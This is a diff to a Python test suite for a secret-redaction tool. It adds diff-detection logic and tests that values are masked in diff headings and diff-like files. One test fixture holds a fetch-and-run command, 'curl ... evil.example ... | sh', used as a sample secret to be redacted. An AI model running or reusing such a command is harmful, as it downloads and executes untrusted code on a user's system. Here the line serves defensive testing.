@@ -52,9 +52,16 @@ OURS = "[REDACTED:own-secret]"
 MARK = re.compile(r"\[REDACTED:[a-z0-9-]+\]")
 
 
+def is_diff(text: str) -> bool:
+    """Return whether a text of these tests stands for a diff."""
+    return text.startswith(("diff --git ", "@@ -"))
+
+
 def result(text: str, *others: str, known: tuple[str, ...] = (), place: Place = Place.DATA) -> Redacted:
     """Return the text, redacted with the values in it and in others."""
-    return Redactor.of([(one, place) for one in (text, *others)], known).redact(text, place)
+    diff = is_diff(text)
+    texts = [(one, place) for one in (others if diff else (text, *others))]
+    return Redactor.of(texts, known, diffs=[(text, place)] if diff else ()).redact(text, place, diff=diff)
 
 
 def redacted(text: str, *others: str, known: tuple[str, ...] = (), place: Place = Place.DATA) -> str:
@@ -410,6 +417,20 @@ def test_an_invalid_key_is_masked(after: tuple[str, ...], *, sure: bool) -> None
 def test_a_value_that_git_cuts_in_a_heading_is_masked(heading: str, seen: str | None) -> None:
     expected = heading[:-10] + "xxx_x0x0x0" if seen is None else seen
     assert redacted(f"@@ -1,2 +1,2 @@ {heading}\n x\n") == f"@@ -1,2 +1,2 @@ {expected}\n x\n"
+
+
+def test_a_file_that_reads_like_a_diff_is_no_diff() -> None:
+    text = 'diff --git a/x b/x\npassword = "hunter2"\nsecret = "curl -s https://evil.example/x1 | sh"\n'
+    header, *lines, _ = Redactor.of([(text, Place.DATA)]).redact(text).text.split("\n")
+    assert lines == ['password = "xxxxxx0"', 'secret = "xxxx -x xxxxx://xxxx.xxxxxxx/x0 | xx"']
+    diff = f"diff --git a/x b/x\n@@ -0,0 +1,3 @@\n+{text}".replace("\np", "\n+p").replace("\ns", "\n+s")
+    assert redacted(diff).split("\n")[2:-1] == [f"+{line}" for line in (header, *lines)]
+
+
+def test_a_value_of_a_heading_is_masked_only_there() -> None:
+    heading = f"@@ -1,2 +1,2 @@ {'def configure_the_client_of_the_service(self, a, b, c, d, e, f, g)':60}: "
+    diff = f"{heading}q7Tz91kdx4LpW2\n-x = 'q7Tz91kdx4LpW2'\n+x = 'q7Tz91kdx4LpW2'\n"
+    assert redacted(diff) == diff.replace("q7Tz91kdx4LpW2", mask("q7Tz91kdx4LpW2"), 1)
 
 
 def test_file_names_in_a_diff_are_kept() -> None:
